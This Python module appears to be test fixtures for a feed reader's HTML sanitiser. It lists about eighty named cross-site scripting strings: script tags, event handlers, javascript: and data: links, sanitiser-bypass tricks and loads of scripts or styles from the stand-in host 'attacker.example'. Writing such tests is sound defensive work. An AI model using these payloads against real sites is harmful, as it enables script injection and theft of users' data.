"""Hostile texts for every field of a feed: each tries to run ``alert`` or to reach ``HOST``.

(name, text). A reader passes when no dialog opens and nothing is asked of ``HOST``.
"""

from __future__ import annotations

HOST = "attacker.example"

_SCRIPTS = (
    ("script", "<script>alert(1)</script>"),
    ("script from elsewhere", "<script src=https://attacker.example/s.js></script>"),
    ("script from the same scheme", "<script src=//attacker.example/s.js></script>"),
    ("script in odd case, unclosed", "<ScRiPt\n>alert(1)//"),
    ("script inside script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script after an attribute's end", '"><script>alert(1)</script>'),
    ("script after JSON's end", '</script><script>alert(1)</script>"}]'),
    ("script with a slash and NUL", "<script/\0>alert(1)</script>"),
    ("script in wide brackets", "＜script＞alert(1)＜/script＞\u202e<script>alert(1)</script>"),
    ("script escaped once", "&lt;script&gt;alert(1)&lt;/script&gt;&lt;p onclick=alert(1)&gt;"),
    ("script escaped twice", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
)
_HANDLERS = (
    ("image error", "<img src=x onerror=alert(1)>"),
    ("image error without spaces", "<img/src=`x`/onerror=alert(1)//"),
    ("attribute's end", '" onmouseover=alert(1) autofocus onfocus=alert(1) x="'),
    ("attribute's end, single", "' onfocus='alert(1)' autofocus tabindex='0"),
    ("details toggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("body load", "<body onload=alert(1) onpageshow=alert(1)>"),
    ("focus", "<p tabindex=0 autofocus onfocus=alert(1)>x</p><input autofocus onfocus=alert(1)>"),
    ("animation", "<p style=animation-name:x onanimationstart=alert(1)>x</p>"),
    ("media error", "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>"),
    ("marquee", "<marquee onstart=alert(1) loop=1>x</marquee>"),
    ("popover", "<button popovertarget=x>x</button><p id=x popover onbeforetoggle=alert(1)>y</p>"),
)
_ADDRESSES = (
    ("javascript link", "<a href=javascript:alert(1)>x</a>"),
    ("javascript link in odd case", "<a href=' jAvAsCrIpT:alert(1)'>x</a>"),
    ("javascript link split", "<a href='java\tscr\nipt:alert(1)'>x</a>"),
    (
        "javascript link in entities",
        "<a href='&#106;&#x61;vascript&colon;alert&lpar;1&rpar;'>x</a>",
    ),
    ("javascript link after a control", "<a href='\x01javascript:alert(1)'>x</a>"),
    ("javascript with an authority", "<a href='javascript://x.example/%0aalert(1)'>x</a>"),
    ("vbscript link", "<a href='vbscript:msgbox(1)'>x</a>"),
    ("data link", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>"),
    (
        "link without scheme",
        "<a href='//attacker.example/'>x</a><a href='/\\attacker.example'>y</a>",
    ),
    ("link with ping", "<a href='https://x.example/' ping='//attacker.example/p'>x</a>"),
    ("bare javascript", "javascript:alert(1)"),
    ("bare javascript that looks like the web", "javascript:alert(1)//https://x.example/"),
    ("bare data", "data:text/html,<script>alert(1)</script>"),
    ("bare address with markup", 'https://x.example/"><img src=x onerror=alert(1)>'),
    ("bare address with a quote", "https://x.example/'onmouseover='alert(1)"),
)
_LOADS = (
    (
        "image sets",
        "<img srcset='//attacker.example/a 1x'><picture><source srcset=//attacker.example/b>",
    ),
    ("base", "<base href=//attacker.example/><a href=x>x</a>"),
    ("refresh", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"),
    ("refresh to elsewhere", "<meta http-equiv=refresh content='0;url=//attacker.example/'>"),
    ("style sheet", "<link rel=stylesheet href=//attacker.example/a.css>"),
    ("prefetch", "<link rel='prefetch preload preconnect' as=script href=//attacker.example/a.js>"),
    (
        "style",
        "<style>@import '//attacker.example/a'; *{background:url(//attacker.example/b)}</style>",
    ),
    ("style attribute", "<p style='background:url(//attacker.example/c)'>x</p>"),
    ("frame with a document", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>"),
    ("frame", "<iframe src='javascript:parent.alert(1)'></iframe><frame src=//attacker.example/f>"),
    ("object", "<object data='data:text/html,<script>alert(1)</script>'></object>"),
    ("embed", "<embed src='//attacker.example/e.svg' type='image/svg+xml'>"),
    (
        "form",
        "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</form>",
    ),
    ("import map", '<script type=importmap>{"imports":{"x":"//attacker.example/m.js"}}</script>'),
    (
        "table background",
        "<table background=//attacker.example/t><td background=//attacker.example/u>",
    ),
    ("poster", "<video poster=//attacker.example/p autoplay src=//attacker.example/v></video>"),
)
_PARSERS = (
    ("svg", "<svg onload=alert(1)><script>alert(1)</script></svg>"),
    ("svg link", "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>"),
    ("svg animation", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x"),
    ("svg use", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>"),
    (
        "foreign object",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject>",
    ),
    ("svg and style", "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>"),
    ("math", "<math><a xlink:href='javascript:alert(1)' href='javascript:alert(1)'>x</a></math>"),
    (
        "math that becomes another tree",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    (
        "math, table and style",
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    ),
    ("noscript", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"),
    (
        "template",
        "<template><script>alert(1)</script></template>"
        "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    ),
    ("textarea", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>"),
    ("title", "<title><a href='</title><img src=x onerror=alert(1)>'>"),
    ("xmp", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>"),
    (
        "noembed and noframes",
        "<noembed><p id='</noembed><noframes></noframes><img src=x onerror=alert(1)>'>",
    ),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("select", "<select><style></select><img src=x onerror=alert(1)></style>"),
    ("comment", "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)> -->"),
    ("conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    (
        "CDATA",
        "<![CDATA[<script>alert(1)</script>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    ),
    ("CDATA's end", "]]><script>alert(1)</script><![CDATA["),
    ("processing instruction", "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>"),
    (
        "entity declaration",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'https://attacker.example/'>]><x>&y;</x>",
    ),
    ("unclosed tag", "<img src=x onerror=alert(1) x='"),
    ("unclosed link", "<a href='https://x.example/' title='<img src=x onerror=alert(1)>"),
    (
        "nested quotes",
        "<a title='\"><img src=x onerror=alert(1)>' href=\"https://x.example/'>\">x</a>",
    ),
    ("template language", "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= alert(1) %>"),
    ("line separators", "\u2028alert(1)\u2029//</script\u2028>"),
    ("broken characters", "<\ud800script>alert(1)</script><img \ufffesrc=x onerror=alert(1)>"),
)

XSS_VECTORS: tuple[tuple[str, str], ...] = (
    *_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_LOADS, *_PARSERS,
)  # fmt: skip
